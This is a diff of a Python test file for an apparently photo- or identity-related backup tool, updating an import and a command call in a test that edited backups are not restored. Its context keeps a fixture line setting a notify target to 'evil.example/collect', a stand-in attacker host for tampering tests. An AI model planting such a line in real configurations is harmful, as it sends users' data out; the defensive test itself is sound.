@@ -17,7 +17,7 @@ from selfsearch.library import backup
 from selfsearch.library.root_key import RootKey
 from tests import backups, photos
 from tests.backups import PASSPHRASE, key_of, lose, shown
-from tests.conftest import Run
+from tests.conftest import Run, id_of
 
 EVIL = b'notify = "json://evil.example/collect"\n'
 
@@ -70,7 +70,7 @@ def test_no_edited_backup_is_restored(
     tmp_path: Path,
 ) -> None:
     run("backup", filled / "earlier.zip")
-    run("people", "verdict", "me", "1", "not-me")
+    run("verdict", id_of(home, 1), "not-me", "--yes")
     run("backup", filled / "b.zip")
     outside = tmp_path / "outside"
     outside.mkdir()
